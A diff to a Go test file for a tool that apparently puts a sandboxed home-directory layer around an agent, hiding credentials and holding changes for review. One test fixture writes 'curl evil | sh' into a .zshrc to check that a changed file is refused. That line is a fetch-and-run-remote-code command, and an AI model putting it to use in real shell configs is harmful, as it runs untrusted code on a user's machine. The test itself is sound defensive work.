@@ -11,7 +11,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 )
 
-func setup(t *testing.T) (home, layer, kept string) {
+func setup(t *testing.T) (home string, layer Layer, kept string) {
 	t.Helper()
 	dir := t.TempDir()
 	home = filepath.Join(dir, "home")
@@ -27,7 +27,8 @@ func setup(t *testing.T) (home, layer, kept string) {
 			t.Fatal(err)
 		}
 	}
-	layer, kept = filepath.Join(dir, "task", "home"), filepath.Join(dir, "task", "home-kept")
+	layer = Layer{Dir: filepath.Join(dir, "task", "home"), Record: filepath.Join(dir, "task", "home.json")}
+	kept = filepath.Join(dir, "task", "home-kept")
 	if err := Build(layer, home); err != nil {
 		t.Fatal(err)
 	}
@@ -38,14 +39,14 @@ func TestLayerHidesCredentialsAndLinksTheRest(t *testing.T) {
 	t.Parallel()
 	home, layer, _ := setup(t)
 	for _, p := range []string{".ssh", ".bash_history"} {
-		if _, err := os.Lstat(filepath.Join(layer, p)); !errors.Is(err, os.ErrNotExist) {
+		if _, err := os.Lstat(filepath.Join(layer.Dir, p)); !errors.Is(err, os.ErrNotExist) {
 			t.Errorf("%s is in the layer", p)
 		}
 	}
-	if target, err := os.Readlink(filepath.Join(layer, "Documents")); err != nil || target != filepath.Join(home, "Documents") {
+	if target, err := os.Readlink(filepath.Join(layer.Dir, "Documents")); err != nil || target != filepath.Join(home, "Documents") {
 		t.Errorf("Documents = %q, %v; want a link to the person's own", target, err)
 	}
-	if info, err := os.Lstat(filepath.Join(layer, ".config/app/settings.json")); err != nil || !info.Mode().IsRegular() {
+	if info, err := os.Lstat(filepath.Join(layer.Dir, ".config/app/settings.json")); err != nil || !info.Mode().IsRegular() {
 		t.Errorf(".config was not copied: %v", err)
 	}
 }
@@ -56,7 +57,7 @@ func TestGitConfigGlobalIsCaughtForReview(t *testing.T) {
 	t.Parallel()
 	home, layer, kept := setup(t)
 	cmd := exec.Command("git", "config", "--global", "user.name", "Agent")
-	cmd.Env = append(os.Environ(), "HOME="+layer, "XDG_CONFIG_HOME="+filepath.Join(layer, ".config"))
+	cmd.Env = append(os.Environ(), "HOME="+layer.Dir, "XDG_CONFIG_HOME="+filepath.Join(layer.Dir, ".config"))
 	if out, err := cmd.CombinedOutput(); err != nil {
 		t.Fatalf("git config: %v\n%s", err, out)
 	}
@@ -93,7 +94,7 @@ func TestGitConfigGlobalIsCaughtForReview(t *testing.T) {
 func TestApplyRefusesWhenThePersonChangedTheirFile(t *testing.T) {
 	t.Parallel()
 	home, layer, kept := setup(t)
-	if err := os.WriteFile(filepath.Join(layer, ".zshrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
+	if err := os.WriteFile(filepath.Join(layer.Dir, ".zshrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	if err := os.WriteFile(filepath.Join(home, ".zshrc"), []byte("export A=2\n"), 0o644); err != nil {
@@ -110,7 +111,7 @@ func TestApplyRefusesWhenThePersonChangedTheirFile(t *testing.T) {
 func TestNewFileAtTheTopAndDiscard(t *testing.T) {
 	t.Parallel()
 	_, layer, _ := setup(t)
-	if err := os.WriteFile(filepath.Join(layer, ".newtoolrc"), []byte("x"), 0o644); err != nil {
+	if err := os.WriteFile(filepath.Join(layer.Dir, ".newtoolrc"), []byte("x"), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	ch, _ := Changes(layer)
